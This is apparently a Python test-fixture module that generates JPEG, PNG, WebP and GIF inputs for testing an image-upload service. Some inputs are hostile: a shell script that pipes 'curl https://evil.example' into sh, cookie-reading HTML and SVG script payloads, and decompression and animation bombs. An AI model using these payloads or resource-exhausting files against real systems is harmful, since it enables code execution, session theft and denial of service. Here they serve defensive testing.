"""Files as people and attackers send them, made on the spot. Nothing here is stored in the
repository."""

import io
import struct
import zlib
from typing import Any

from PIL import Image, PngImagePlugin

TYPES = ("JPEG", "PNG", "WEBP", "GIF")
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
PAGE = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SECRET = b"51.4778N-secret-place"


def mime_type(kind: str) -> str:
    """The MIME type of a format's name."""
    return f"image/{kind.lower()}"


def painted(width: int = 64, height: int = 48, mode: str = "RGB") -> Image.Image:
    """A picture without symmetry, so that turning it shows: red left top, blue right bottom."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    image.paste((255, 0, 0), (0, 0, width // 3, height // 3))
    image.paste((0, 0, 255), (width // 2, height // 2, width, height))
    return image.convert(mode)


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    """The bytes of a picture in a format."""
    target = io.BytesIO()
    image.save(target, kind, **options)
    return target.getvalue()


def picture(kind: str = "PNG", **options: Any) -> bytes:
    """A small good picture."""
    return encoded(painted(), kind, **options)


def opened(content: bytes) -> Image.Image:
    """The decoded picture."""
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


def animation(kind: str, frames: int = 3) -> bytes:
    """A picture that moves."""
    images = [painted().rotate(10 * turn) for turn in range(frames)]
    return encoded(images[0], kind, save_all=True, append_images=images[1:], duration=50, loop=0)


def _with_place() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif[0x0132] = "2026:11:22 03:30:00"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (51.0, 28.0, 40.0)
    gps[29] = SECRET.decode()
    return exif


def with_metadata(kind: str) -> bytes:
    """A picture that tells where it was taken, in every way its format has, and has something hung
    on behind it."""
    exif = _with_place()
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET + b"</x:xmpmeta>"
    if kind == "JPEG":
        content = encoded(painted(), kind, exif=exif, xmp=xmp, comment=SECRET)
    elif kind == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Location", SECRET.decode())
        info.add_text("Zipped", SECRET.decode(), zip=True)
        info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        content = encoded(painted(), kind, exif=exif, pnginfo=info)
    elif kind == "WEBP":
        content = encoded(painted(), kind, exif=exif, xmp=xmp)
    else:
        content = encoded(painted(), kind, comment=SECRET)
    assert SECRET in content
    return content + SECRET


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with hardly any bytes in it."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    line = b"\0" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(line * 64) for _ in range(height // 64)) + packer.flush()
    parts = ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_png_chunk(*part) for part in parts)


def png_with_behind(length: int) -> bytes:
    """A good PNG of exactly this many bytes: the rest is in a chunk that decoders skip."""
    content = picture("PNG")
    missing = length - len(content) - 12
    return content[:-12] + _png_chunk(b"juNk", bytes(missing)) + content[-12:]


# Pictures that are made to grow: few bytes that take a decoder, or whoever looks for the parts of a
# file, as long as possible.


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    checksum = struct.pack(">I", zlib.crc32(kind + body))
    return struct.pack(">I", len(body)) + kind + body + checksum


def jpeg_with_data(data: bytes) -> bytes:
    """A JPEG with this behind the coded data of its scan."""
    content = picture("JPEG")
    return content[:-2] + data + content[-2:]


def jpeg_with_segments(segments: bytes) -> bytes:
    """A JPEG with these segments behind its first bytes."""
    content = picture("JPEG")
    return content[:2] + segments + content[2:]


def jpeg_of_scans(scans: int, size: tuple[int, int] = (64, 48)) -> bytes:
    """A progressive JPEG that goes over all of its pixels so often; each scan after the tenth takes
    a few bytes, however large the picture."""
    content = encoded(Image.new("RGB", size, (200, 30, 30)), "JPEG", progressive=True)
    start = content.rindex(b"\xff\xda")
    return content[:-2] + content[start:-2] * (scans - 10) + content[-2:]


def png_with_chunks(count: int) -> bytes:
    """A PNG with so many empty chunks that decoders skip."""
    content = picture("PNG")
    return content[:33] + _png_chunk(b"juNk", b"") * count + content[33:]


def animated_png(frames: int, side: int) -> bytes:
    """An animated PNG of so many frames that all show the same square of one colour."""
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes(side * (side + 1)), 9)
    parts = [_png_chunk(b"IHDR", head), _png_chunk(b"acTL", struct.pack(">II", frames, 0))]
    number = 0
    for frame in range(frames):
        control = struct.pack(">IIIIIHHBB", number, side, side, 0, 0, 1, 20, 0, 0)
        parts.append(_png_chunk(b"fcTL", control))
        number += 1
        if frame == 0:
            parts.append(_png_chunk(b"IDAT", body))
        else:
            parts.append(_png_chunk(b"fdAT", struct.pack(">I", number) + body))
            number += 1
    return b"\x89PNG\r\n\x1a\n" + b"".join([*parts, _png_chunk(b"IEND", b"")])


def animated_webp(frames: int, side: int) -> bytes:
    """An animated WebP of so many frames, each of which covers a square of one colour."""
    still = encoded(Image.new("RGB", (side, side), (3, 200, 1)), "WEBP", lossless=True)
    one, edge = still[12:], (side - 1).to_bytes(3, "little")
    frame = bytes(6) + edge + edge + bytes((20, 0, 0, 2)) + one
    chunks = b"VP8X" + struct.pack("<II", 10, 2) + edge + edge
    chunks += b"ANIM" + struct.pack("<IIH", 6, 0, 0)
    chunks += (b"ANMF" + struct.pack("<I", len(frame)) + frame) * frames
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WEBP" + chunks


def webp_with_chunks(count: int) -> bytes:
    """A WebP with so many empty chunks that nobody knows."""
    content = picture("WEBP") + b"juNk\0\0\0\0" * count
    return content[:4] + struct.pack("<I", len(content) - 8) + content[8:]


def gif_with_blocks(blocks: bytes) -> bytes:
    """A GIF with these blocks before its end."""
    return picture("GIF")[:-1] + blocks + b"\x3b"


def gif_frame(width: int, height: int) -> bytes:
    """A frame of a GIF that says it is so large, and holds next to nothing."""
    return b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
